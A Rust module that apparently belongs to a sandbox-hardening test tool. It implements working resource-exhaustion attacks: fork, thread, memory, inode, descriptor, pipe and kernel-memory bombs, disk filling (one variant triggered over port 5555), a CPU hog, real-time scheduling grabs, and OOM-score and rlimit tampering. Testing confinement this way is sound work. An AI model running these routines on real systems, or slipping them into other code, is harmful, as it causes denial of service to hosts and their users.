//! Uses up: processes, memory, disks, inodes, descriptors, processor, and everything that has a limit.

use std::fs::File;
use std::io::Write as _;
use std::os::fd::{AsRawFd as _, OwnedFd};
use std::path::{Path, PathBuf};

use nix::errno::Errno;
use nix::libc;
use nix::sys::socket::{AddressFamily, SockFlag, SockType};
use rustix::fs::Mode;

use crate::raw::{self, Arg, attempt};
use crate::{Attack, Words, errno, hold, said};

pub(crate) const ATTACKS: &[Attack] = &[
    ("fork-bomb", fork_bomb),
    ("thread-bomb", thread_bomb),
    ("memory-bomb", memory_bomb),
    ("shm-memory", shm_memory),
    ("fill", fill),
    ("fill-when-told", fill_when_told),
    ("inode-bomb", inode_bomb),
    ("fd-bomb", fd_bomb),
    ("pipe-bomb", pipe_bomb),
    ("memfd-bomb", memfd_bomb),
    ("kmem-bomb", kmem_bomb),
    ("cpu-hog", cpu_hog),
    ("real-time", real_time),
    ("io-flood", io_flood),
    ("favours", favours),
    ("crash", crash),
];

/// Forks until the kernel says no, in every process that it has made.
fn fork_bomb(_: Words<'_>) {
    let mut made = 0;
    loop {
        match raw::fork() {
            Ok(Some(_)) => made += 1,
            Ok(None) => {
                // Children bomb too; they say nothing.
                while let Ok(child) = raw::fork() {
                    if child.is_none() {
                        hold();
                    }
                }
                hold();
            }
            Err(errno) => {
                println!("forked {made}, then {errno:?}");
                return;
            }
        }
    }
}

fn thread_bomb(_: Words<'_>) {
    for made in 0_u32.. {
        let thread = std::thread::Builder::new().stack_size(64 << 10).spawn(|| hold());
        if let Err(error) = thread {
            println!("{made} threads, then {:?}", errno(error));
            return;
        }
    }
}

/// Touches page after page, 1 MiB at a time.
fn memory_bomb(_: Words<'_>) {
    let mut kept = Vec::new();
    for mebibytes in 1_u32.. {
        kept.push(vec![0xA5_u8; 1 << 20]);
        if mebibytes.is_multiple_of(16) {
            println!("{mebibytes} MiB");
        }
    }
}

/// Memory that belongs to no process: System V segments, unattached.
fn shm_memory(_: Words<'_>) {
    let mut made = 0;
    while let Ok(_id) = attempt(libc::SYS_shmget, &mut [Arg::Int(0), Arg::Int(1 << 20), Arg::Int(0o1600)]) {
        made += 1;
        if made == 100_000 {
            break;
        }
    }
    println!("{made} segments of 1 MiB");
}

/// Writes `fill PATH…` until each file system is full.
fn fill(paths: Words<'_>) {
    for path in paths {
        let mut bytes = 0_u64;
        let outcome = File::create(Path::new(path).join("fill")).and_then(|mut file| {
            let chunk = vec![0x5A; 1 << 20];
            loop {
                bytes += file.write(&chunk)? as u64;
            }
        });
        let outcome: Result<(), Errno> = outcome.map_err(errno);
        println!("{path}: {bytes} bytes");
        said(path, outcome);
    }
}

/// The same, once somebody has connected to port 5555.
fn fill_when_told(paths: Words<'_>) {
    let Ok(listener) = std::net::TcpListener::bind("0.0.0.0:5555") else { return };
    println!("waiting");
    let told = listener.accept();
    println!("told: {}", told.is_ok());
    fill(paths);
}

/// Makes empty files below `inode-bomb PATH…` until there are no more to have.
fn inode_bomb(paths: Words<'_>) {
    for path in paths {
        let dir = Path::new(path).join("inodes");
        let mut made = 0_u64;
        let outcome = std::fs::create_dir(&dir).and_then(|()| {
            loop {
                File::create(dir.join(format!("{made}")))?;
                made += 1;
                if made == 3_000_000 {
                    return Ok(());
                }
            }
        });
        println!("{path}: {made} files");
        said(path, outcome.map_err(errno));
    }
}

fn fd_bomb(_: Words<'_>) {
    let mut kept = Vec::new();
    loop {
        match File::open("/dev/null") {
            Ok(file) => kept.push(file),
            Err(error) => {
                println!("{} files, then {:?}", kept.len(), errno(error));
                // Printed and held with everything open.
                println!("attacked");
                hold();
            }
        }
    }
}

/// Makes pipes as large as they get; what is in them is the kernel's memory.
fn pipe_bomb(_: Words<'_>) {
    let mut kept: Vec<(OwnedFd, OwnedFd)> = Vec::new();
    let mut bytes = 0;
    while let Ok((reader, writer)) = rustix::pipe::pipe() {
        let wanted = rustix::pipe::fcntl_setpipe_size(&writer, 1 << 20);
        if kept.is_empty() {
            said("the first pipe of 1 MiB", wanted);
        }
        bytes += rustix::pipe::fcntl_getpipe_size(&writer).unwrap_or(0);
        kept.push((reader, writer));
    }
    println!("{} pipes of {bytes} bytes", kept.len());
    println!("attacked");
    hold();
}

/// Files without a place: memory that only descriptors hold.
fn memfd_bomb(_: Words<'_>) {
    let mut kept = Vec::new();
    while let Ok(file) = rustix::fs::memfd_create("bomb", rustix::fs::MemfdFlags::CLOEXEC) {
        let mut file = File::from(file);
        if file.write_all(&vec![1; 1 << 20]).is_err() {
            break;
        }
        kept.push(file);
        if kept.len().is_multiple_of(16) {
            println!("{} MiB", kept.len());
        }
    }
    println!("{} files", kept.len());
}

/// The kernel's own memory: full pipes and sockets, event queues, names.
fn kmem_bomb(_: Words<'_>) {
    let mut kept: Vec<OwnedFd> = Vec::new();
    loop {
        let pair = nix::sys::socket::socketpair(AddressFamily::Unix, SockType::Stream, None, SockFlag::SOCK_NONBLOCK);
        let Ok((one, other)) = pair else { break };
        while rustix::io::write(&one, &[0; 4096]).is_ok() {}
        while rustix::io::write(&other, &[0; 4096]).is_ok() {}
        kept.extend([one, other]);
        if let Ok((reader, writer)) = rustix::pipe::pipe_with(rustix::pipe::PipeFlags::NONBLOCK) {
            while rustix::io::write(&writer, &[0; 4096]).is_ok() {}
            kept.extend([reader, writer]);
        }
        if kept.len().is_multiple_of(64) {
            println!("{} descriptors", kept.len());
        }
    }
    println!("{} descriptors in all", kept.len());
    for number in 0_u64..10_000_000 {
        // A name that is not there is remembered as such.
        let _ = std::fs::metadata(format!("/tmp/no-such-name-{number}"));
    }
}

/// Two processes that never wait.
fn cpu_hog(_: Words<'_>) {
    let _ = raw::fork();
    println!("hogging");
    loop {
        std::hint::spin_loop();
    }
}

/// Asks for a scheduling class that nobody else can interrupt.
fn real_time(_: Words<'_>) {
    for (name, policy) in [("fifo", libc::SCHED_FIFO), ("rr", libc::SCHED_RR)] {
        let mut priority = 50_i32.to_ne_bytes();
        let mut arguments = [Arg::Int(0), Arg::Int(policy.into()), Arg::Bytes(&mut priority)];
        said(name, attempt(libc::SYS_sched_setscheduler, &mut arguments));
    }
    // struct sched_attr: size, policy DEADLINE, flags, nice, priority, runtime, deadline, period.
    let mut deadline = Vec::new();
    deadline.extend(48_u32.to_ne_bytes());
    deadline.extend(6_u32.to_ne_bytes());
    deadline.extend([0; 16]);
    for nanoseconds in [10_000_000_u64, 20_000_000, 20_000_000] {
        deadline.extend(nanoseconds.to_ne_bytes());
    }
    let mut arguments = [Arg::Int(0), Arg::Bytes(&mut deadline), Arg::Int(0)];
    said("deadline", attempt(libc::SYS_sched_setattr, &mut arguments));
    said("nice -20", attempt(libc::SYS_setpriority, &mut [Arg::Int(0), Arg::Int(0), Arg::Int(-20)]));
    // IOPRIO_WHO_PROCESS, itself, class real-time.
    said("real-time io", attempt(libc::SYS_ioprio_set, &mut [Arg::Int(1), Arg::Int(0), Arg::Int(1 << 13)]));
}

/// Writes and syncs without end.
fn io_flood(_: Words<'_>) {
    let path = PathBuf::from("/flood");
    println!("flooding");
    let chunk = vec![0xFF; 1 << 20];
    loop {
        let Ok(mut file) = File::create(&path) else { return };
        for _ in 0..16 {
            if file.write_all(&chunk).is_err() {
                break;
            }
        }
        let _ = file.sync_all();
    }
}

/// Asks to be spared where others are not.
fn favours(_: Words<'_>) {
    for path in ["/proc/self/oom_score_adj", "/proc/1/oom_score_adj"] {
        said(path, std::fs::write(path, "-1000").map_err(errno));
    }
    said("nice -20", attempt(libc::SYS_setpriority, &mut [Arg::Int(0), Arg::Int(0), Arg::Int(-20)]));
    let mut memory = vec![1_u8; 64 << 20];
    let arguments = &mut [Arg::Bytes(&mut memory), Arg::Int(64 << 20)];
    said("mlock 64 MiB", attempt(libc::SYS_mlock, arguments));
    // MCL_CURRENT | MCL_FUTURE
    said("mlockall", attempt(libc::SYS_mlockall, &mut [Arg::Int(3)]));
    // SHM_HUGETLB, SHM_LOCK
    let huge = attempt(libc::SYS_shmget, &mut [Arg::Int(0), Arg::Int(2 << 20), Arg::Int(0o5600)]);
    said("a huge page", huge);
    if let Ok(id) = attempt(libc::SYS_shmget, &mut [Arg::Int(0), Arg::Int(64 << 20), Arg::Int(0o1600)]) {
        said("lock 64 MiB of shared memory", attempt(libc::SYS_shmctl, &mut [Arg::Int(id), Arg::Int(11)]));
    }
    // MFD_HUGETLB
    let huge = attempt(libc::SYS_memfd_create, &mut [Arg::Text(c"huge"), Arg::Int(4)]);
    said("a huge file", huge.map(|_| ()));
    // RLIMIT_NPROC, RLIMIT_NOFILE, RLIMIT_MEMLOCK, RLIMIT_CORE, RLIMIT_FSIZE raised to no limit
    for resource in [6_i64, 7, 8, 4, 1] {
        let mut limit = [0xFF; 16];
        let mut arguments = [Arg::Int(0), Arg::Int(resource), Arg::Bytes(&mut limit), Arg::Int(0)];
        said(format!("raise limit {resource}"), attempt(libc::SYS_prlimit64, &mut arguments));
    }
    println!("attacked");
    std::hint::black_box(&memory);
    hold();
}

/// Dies with the signal `crash NUMBER`, of those that leave a core file.
fn crash(words: Words<'_>) {
    let _ = std::env::set_current_dir("/tmp");
    let _ = rustix::process::umask(Mode::empty());
    let file = File::create("/tmp/before-the-crash");
    if let Ok(file) = &file {
        println!("crash with {} open", file.as_raw_fd());
    }
    let signal = nix::sys::signal::Signal::try_from(crate::number(words, 0, libc::SIGSEGV));
    // The standard library's handler for some of them swallows the first, and steps aside.
    for _ in 0..2 {
        let _ = signal.map(nix::sys::signal::raise);
    }
}
